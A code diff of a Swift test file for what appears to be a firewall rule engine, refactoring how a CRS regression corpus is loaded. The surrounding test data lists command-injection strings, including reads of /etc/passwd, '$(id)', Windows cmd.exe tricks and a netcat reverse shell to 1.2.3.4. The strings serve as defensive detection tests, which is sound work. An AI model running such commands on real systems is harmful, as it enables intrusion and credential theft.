@@ -39,14 +39,7 @@ import Testing
     }
 
     @Test func gatedSearchAgreesWithTheFullSearchOnTheCorpus() throws {
-        let corpus = try Fixture.bytes("crs/crs-regression.jsonl")
-        var values: [[UInt8]] = []
-        for line in corpus.split(separator: 0x0A) {
-            let record = try PalisadeJSON.JSONDocument(bytes: Array(line)).root
-            for input in record["inputs"].map({ Array($0.elements) }) ?? [] {
-                if let value = input["value"]?.string { values.append(Array(value.utf8)) }
-            }
-        }
+        let values = try CRSCorpus.inputValues().map { Array($0.utf8) }
         let crafted = [
             "ls -la", "email", "env", "uname -a", "json.ls -la", "\\ls", "\\\\cat /etc/passwd", "/bin/cat /etc/passwd",
             "x;cat /etc/passwd", "x|id", "a && whoami", "$(id)", "`id`", "a\nnc -e /bin/sh 1.2.3.4 4444",
@@ -192,13 +185,7 @@ import Testing
         let start = #"(?i)(?:[\n\r;`\{]|\|\|?|&&?)"#
         var inputs: Set<String> = ["Ring twice; if nobody answers, leave it with the neighbour (No. 14). Thanks!", "web; Safari 18.1 / macOS 14.6",
                                    "Sleeve 13\" laptop & tablet, recycled felt", "a=1&b=2", "x;\"c^m^d\" /c dir", "x| ,@(\"C:/Windows/System32/cmd.exe"]
-        let corpus = try Fixture.bytes("crs/crs-regression.jsonl")
-        for line in corpus.split(separator: 0x0A) {
-            let record = try PalisadeJSON.JSONDocument(bytes: Array(line)).root
-            for input in record["inputs"].map({ Array($0.elements) }) ?? [] {
-                if let value = input["value"]?.string { inputs.insert(value) }
-            }
-        }
+        inputs.formUnion(try CRSCorpus.inputValues())
         for rule in rules {
             let pattern = try #require(rule.condition.regex?.pattern)
             #expect(pattern.hasPrefix(start), "crs.\(rule.id)")
